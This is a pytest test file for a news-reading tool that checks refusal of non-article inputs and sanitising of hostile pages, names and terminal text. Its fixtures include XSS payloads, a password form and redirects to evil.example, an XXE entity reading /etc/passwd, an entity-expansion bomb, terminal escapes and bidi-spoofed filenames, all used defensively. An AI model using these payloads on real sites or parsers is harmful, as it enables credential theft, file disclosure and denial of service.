"""Texts and pages that want to run, to hide, to steer a screen, or to never end."""

import pytest

from berdikari.cli.screen import Screen
from berdikari.cli.words import load_words
from berdikari.edge.fetch.html import _is_costly
from berdikari.edge.fetch.kind import kind_of
from berdikari.edge.load import document_from
from berdikari.errors import UnreadableSourceError
from berdikari.report.plain import plain

from .conftest import TIGHT

NEWS = (
    "PT Graha Teknomedika dan Surgiris menandatangani nota kesepahaman pada 1 Februari 2024. "
    "Keduanya akan memproduksi lampu operasi di Kota Tangerang, Banten. Nilainya mencapai 1 juta euro. "
) * 3  # fmt: skip


def page(body, head=""):
    return f"<!doctype html><html><head><title>Kabar</title>{head}</head><body><article><h1>Kabar</h1>{body}<p>{NEWS}</p></article></body></html>".encode()


REFUSED = {
    "nothing": b"",
    "white space": b" \n\t " * 1000,
    "nulls": b"\0" * 1000,
    "a text with a null": b"PT A\0 dan PT B",
    "control characters": b"\x01\x02\x03\x04" * 200,
    "a program": b"\x7fELF\x02\x01\x01" + bytes(300),
    "a program of Windows": b"MZ\x90\x00" + bytes(300),
    "a picture": b"\x89PNG\r\n\x1a\n" + bytes(99),
    "an archive": b"PK\x03\x04" + bytes(99),
    "a packed file": b"\x1f\x8b\x08" + bytes(99),
    "a database": b"SQLite format 3\0" + bytes(99),
    "rich text": b"{\\rtf1 {\\object\\objdata 0105}}",
    "an old Office file": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(99),
    "UTF-16 with nulls in it": "PT A\0".encode("utf-16"),
    "a page without text": b"<html><body><script>alert(1)</script></body></html>",
    "a page that is too large": b"<html><p>" + b"x" * 2**20,
}  # fmt: skip
ZIPPED = {
    ".docx": "Word",
    ".xlsx": "Excel",
    ".pptx": "PowerPoint",
    ".odt": "OpenDocument",
    ".epub": "e-book",
    ".zip": "archive",
    ".txt": "archive",
}


@pytest.mark.parametrize("raw", REFUSED.values(), ids=REFUSED)
def test_what_is_no_article_is_refused_in_words(raw):
    with pytest.raises(UnreadableSourceError, match=r"^kabar\.txt: .*; wanted "):
        document_from(raw, "kabar.txt", TIGHT)


@pytest.mark.parametrize("ending, found", ZIPPED.items())
def test_office_files_are_never_unpacked(ending, found):
    with pytest.raises(UnreadableSourceError, match=found):
        document_from(b"PK\x03\x04" + bytes(99), f"kabar{ending}", TIGHT)


LIVE = {
    "a script": "<script>alert('x-live')</script>",
    "a script in a picture": "<img src=x onerror=alert('x-live')>",
    "a drawing that runs": "<svg onload=alert('x-live')><script>x-live</script></svg>",
    "a frame": "<iframe srcdoc='<script>x-live</script>'></iframe>",
    "a link that runs": "<a href='javascript:x-live'>klik</a>",
    "a form": "<form action='http://evil.example/x-live'><input name=password></form>",
    "a style": "<style>@import 'http://evil.example/x-live'</style>",
    "a template": "<template><script>x-live</script></template>",
    "a comment that is none": "<!--><script>x-live</script>-->",
    "an object": "<object data='x-live.swf'></object><embed src='x-live'>",
    "a base": "<base href='http://evil.example/x-live'>",
    "a refresh": "<meta http-equiv=refresh content='0;url=http://evil.example/x-live'>",
}  # fmt: skip


@pytest.mark.parametrize("body", LIVE.values(), ids=LIVE)
def test_of_a_page_nothing_that_runs_remains(body):
    document, _ = document_from(page(body), "kabar.html", TIGHT)
    assert "x-live" not in document.text
    assert "nota kesepahaman" in document.text
    assert "<" not in document.text


SWELLING = {
    "elements in elements": page("<div>" * 60_000),
    "entities that multiply": b'<?xml version="1.0"?><!DOCTYPE html [<!ENTITY a "lol">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9))
    + b"]>" + page("<p>&j;</p>").removeprefix(b"<!doctype html>"),
    "an entity that reads a file": b'<?xml version="1.0"?><!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    + page("<p>&x;</p>").removeprefix(b"<!doctype html>"),
    "attributes without end": page("<p " + " ".join(f"a{n}=1" for n in range(40_000)) + ">x</p>"),
    "attributes without values": page("<p " + " ".join(f"a{n}" for n in range(60_000)) + ">x</p>"),
    "a table of tables": page("<table><tr><td>" * 20_000),
    "links without end": page("<a href=x>y</a>" * 30_000),
    "entities": page("&amp;" * 100_000),
}  # fmt: skip


@pytest.mark.parametrize("raw", SWELLING.values(), ids=SWELLING)
def test_a_page_that_swells_is_read_or_refused_within_its_limits(raw):
    try:
        document, _ = document_from(raw, "kabar.html", TIGHT)
    except UnreadableSourceError:
        return
    assert "root:" not in document.text
    assert len(document.text) < 2 * len(raw)


@pytest.mark.parametrize(
    "body", ["<p>x" * 31_000, "x" * 2_000_001, "<p " + "a " * 10_001 + ">x", "<p " + "a<" * 10_001]
)
def test_a_page_that_may_cost_much_is_given_to_a_process_with_limits(body):
    assert _is_costly(body)


@pytest.mark.parametrize(
    "raw",
    [
        b"<!---->" * 580,
        b"<!--" * 1000,
        b"<!-- -->\n" * 450 + b"x",
        b"<?xml" * 800,
        b" " * 4096,
        b"<!--" + b"-->" * 1300,
    ],
)
def test_a_page_is_told_from_a_text_at_once(raw):
    assert kind_of(raw, "kabar") == "text"


TURNING = [chr(code) for code in (*range(0x202A, 0x202F), *range(0x2066, 0x206A))]


@pytest.mark.parametrize("sign", TURNING, ids=ascii)
def test_what_turns_letters_around_is_kept_in_the_text_and_shown_as_a_mark(sign, capsys):
    document, _ = document_from(f"{NEWS} 1{sign}000 euro".encode(), "kabar.txt", TIGHT)
    assert sign in document.text
    assert plain(document.text) == document.text.replace(sign, "\ufffd")
    Screen(words=load_words("en")).line(f"1{sign}000")
    assert capsys.readouterr().out == "1\ufffd000\n"


@pytest.mark.parametrize("steering", ["\x1b[2J", "\x1b]0;x\x07", "\x9b31m", "\x08\x08", "\x1b[5n", "\x7f"], ids=ascii)
def test_no_text_steers_the_terminal(steering, capsys):
    Screen(words=load_words("en")).line(f"a{steering}b")
    assert not set(capsys.readouterr().out) & {"\x1b", "\x9b", "\x07", "\x08", "\x7f"}


HOSTILE_NAMES = [
    "<script>alert('x-live')</script>",
    '"><img src=x onerror=alert(1)>',
    "{{ 7*7 }}",
    "</style><script>x</script>",
    "javascript:x",
    "&lt;b&gt;",
    "\u202eexe.fdp",
]


@pytest.mark.parametrize("name", HOSTILE_NAMES, ids=ascii)
def test_a_name_never_runs_on_the_brief_nor_on_a_page(name, tmp_path):
    from berdikari import api  # noqa: PLC0415
    from berdikari.edge.config import Settings  # noqa: PLC0415
    from berdikari.edge.store import open_store  # noqa: PLC0415
    from berdikari.web.app import make_app  # noqa: PLC0415
    from berdikari.web.desk import Desk  # noqa: PLC0415

    raw = f"---\nurl: javascript:alert(1)\noutlet: {name}\ntitle: {name}\n---\n{NEWS}\nPT {name} Medika dan Surgiris menandatangani nota kesepahaman.\n"
    document, _ = document_from(raw.encode(), f"kabar {name}.txt", TIGHT)
    with open_store(tmp_path / "x.db") as store:
        list(api.add(store, [api.read_document(document)]))
        partnerships = api.partnerships(store)
        assert partnerships
        shown = [api.brief(store, language="en")]
        desk = Desk(store, Settings())
        ask = asker(make_app(desk))
        paths = (
            f"/en/document/{document.id}",
            f"/en/partnership/{partnerships[0].id}",
            "/en/partnerships?q=" + "%3Cscript%3E",
            "/en/organisations",
        )
        shown += map(ask, paths)
    for html in shown:
        assert "<script>alert" not in html
        assert "<img src=x" not in html
        assert 'href="javascript:' not in html
        assert "\u202e" not in html
    assert "&lt;script&gt;alert" in "".join(shown) or "<script>alert" not in name


def asker(app):
    """Asks the app and gives the body; in a thread, since a browser's loop may stand in this one."""
    import asyncio  # noqa: PLC0415
    from concurrent.futures import ThreadPoolExecutor  # noqa: PLC0415

    import httpx  # noqa: PLC0415

    async def get(path):
        async with httpx.AsyncClient(transport=httpx.ASGITransport(app), base_url="http://127.0.0.1") as client:
            answer = await client.get(path, follow_redirects=True)
            assert answer.status_code in (200, 404)
            return answer.text

    def ask(path):
        with ThreadPoolExecutor(1) as thread:
            return thread.submit(asyncio.run, get(path)).result()

    return ask
